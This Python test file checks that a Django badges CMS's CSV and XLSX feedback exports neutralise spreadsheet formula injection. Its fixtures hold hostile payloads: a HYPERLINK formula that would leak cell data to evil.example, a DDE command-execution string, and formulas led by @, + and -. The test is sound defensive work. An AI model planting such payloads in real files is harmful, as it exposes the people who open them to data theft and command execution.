"""The CSV and XLSX exports of feedback are safe to open in a spreadsheet: whatever an earner
typed (or an editor wrote as a question) stays text, never a formula."""

import csv
import zipfile
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from badges_cms.feedback.models import BadgeFeedbackFormField, BadgeFeedbackSubmission

pytestmark = pytest.mark.django_db

USED_NAME = "how_did_you_use_it"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(feedback_page):
    """One submission per formula, in the free-text answer; one question whose label is one."""
    BadgeFeedbackFormField.objects.create(
        page=feedback_page, label="=1+2", field_type="singleline", sort_order=10
    )
    for text in FORMULAS:
        BadgeFeedbackSubmission.objects.create(
            page=feedback_page,
            form_data={
                "badge": "",
                "badge_title": "",
                "where_have_you_shared_the_badge": ["=cmd|' /C calc'!A0", "My CV"],
                USED_NAME: text,
                "what_would_improve_the_programme": "Plain words, with a - in the middle.",
                "12": "@me",
                "email": "ann@example.org",
            },
        )
    return feedback_page


def export(client, page, export_format):
    url = reverse("wagtailforms:list_submissions", args=(page.pk,))
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


USED = "How did you use it?"
SHARED = "Where have you shared the badge?"
IMPROVE = "What would improve the programme?"


def by_heading(headings, rows):
    """Each row as {heading: value}: the questions' order is the editor's, not the test's."""
    return [dict(zip(headings, row, strict=True)) for row in rows]


def test_csv_cells_that_would_start_a_formula_get_a_leading_apostrophe(admin_client, hostile):
    content = export(admin_client, hostile, "csv").decode("utf-8-sig")
    headings, *rows = list(csv.reader(StringIO(content, newline="")))
    assert "'=1+2" in headings
    rows = by_heading(headings, rows)
    assert [row[USED] for row in rows] == [f"'{text}" for text in FORMULAS]
    for row in rows:
        assert row[SHARED] == "'=cmd|' /C calc'!A0, My CV"
        assert row[IMPROVE] == "Plain words, with a - in the middle."
        assert row["'=1+2"] == "'@me"
        assert row["Email address"] == "ann@example.org"
        # The date is not text an earner typed, and is left as it is.
        assert row["Submission date"][:1].isdigit()


def test_xlsx_has_no_formula_cells_and_keeps_the_text_as_typed(admin_client, hostile):
    content = export(admin_client, hostile, "xlsx")
    sheet = zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    workbook = load_workbook(BytesIO(content))
    headings, *rows = list(workbook.active.iter_rows())
    assert all(cell.data_type == "s" for cell in headings)
    assert "=1+2" in [cell.value for cell in headings]
    for row in rows:
        assert all(cell.data_type != "f" for cell in row)
    rows = by_heading([cell.value for cell in headings], [[c.value for c in r] for r in rows])
    assert [row[USED] for row in rows] == FORMULAS
    for row in rows:
        assert row[SHARED] == "=cmd|' /C calc'!A0, My CV"
        assert row["=1+2"] == "@me"


def test_control_characters_do_not_break_the_xlsx_export(admin_client, feedback_page):
    # A spreadsheet cannot hold most control characters; openpyxl refuses them outright.
    BadgeFeedbackSubmission.objects.create(
        page=feedback_page,
        form_data={"badge": "", "badge_title": "", USED_NAME: "a\x01b\x1bc\td"},
    )
    workbook = load_workbook(BytesIO(export(admin_client, feedback_page, "xlsx")))
    headings, *rows = list(workbook.active.iter_rows(values_only=True))
    assert by_heading(headings, rows)[0][USED] == "a\ufffdb\ufffdc\td"
    content = export(admin_client, feedback_page, "csv").decode("utf-8-sig")
    headings, *rows = list(csv.reader(StringIO(content, newline="")))
    assert by_heading(headings, rows)[0][USED] == "a\x01b\x1bc\td"
